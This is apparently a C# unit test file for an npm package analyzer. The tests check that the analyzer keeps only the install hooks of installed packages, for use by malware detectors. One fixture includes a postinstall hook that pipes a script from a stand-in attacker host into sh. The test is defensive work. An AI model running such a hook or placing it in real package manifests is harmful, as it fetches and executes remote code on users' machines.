using System.Text;
using Drydock.Analysis.Packages.Npm;
using static Drydock.Tests.Analysis.Packages.LanguageAnalyzerRun;

namespace Drydock.Tests.Analysis.Packages.Npm;

/// <summary>The npm analyzer keeps the install hooks of installed packages (for the malware detectors), and only those.</summary>
public sealed class NpmInstallHookTests
{
    private static Drydock.Analysis.Packages.PackageRecord Package(string json)
        => Assert.Single(Run(new NpmPackageJsonAnalyzer(), "app/node_modules/x/package.json", Encoding.UTF8.GetBytes(json)).Packages);

    [Fact]
    public void Preinstall_install_and_postinstall_are_kept_other_scripts_are_not()
    {
        var record = Package("""
            {"name": "x", "version": "1.0.0", "scripts": {"test": "jest", "prepare": "husky install", "preinstall": "node check.js",
             "install": "node-gyp rebuild", "postinstall": "  curl -fsSL https://attacker.invalid/p.sh | sh  ", "start": "node ."}}
            """);
        Assert.Equal(["script:install", "script:postinstall", "script:preinstall"], record.Metadata.Keys.Where(k => k.StartsWith("script:", StringComparison.Ordinal)));
        Assert.Equal("curl -fsSL https://attacker.invalid/p.sh | sh", record.Metadata["script:postinstall"]);
        Assert.Equal("node-gyp rebuild", record.Metadata["script:install"]);
    }

    [Theory]
    [InlineData("""{"name": "x", "version": "1.0.0", "scripts": "postinstall"}""")]
    [InlineData("""{"name": "x", "version": "1.0.0", "scripts": {"postinstall": ["curl"], "install": 3, "preinstall": ""}}""")]
    [InlineData("""{"name": "x", "version": "1.0.0"}""")]
    public void Odd_scripts_values_record_the_package_without_hooks(string json)
    {
        Assert.DoesNotContain(Package(json).Metadata.Keys, k => k.StartsWith("script:", StringComparison.Ordinal));
    }

    [Fact]
    public void A_long_hook_is_cut_and_marked()
    {
        var script = "node -e " + new string('a', 10_000);
        var json = "{\"name\": \"x\", \"version\": \"1.0.0\", \"scripts\": {\"postinstall\": \"" + script + "\"}}";
        var kept = Package(json).Metadata["script:postinstall"];
        Assert.Equal(NpmManifest.MaxScriptLength + 1, kept.Length);
        Assert.EndsWith("…", kept);
    }
}
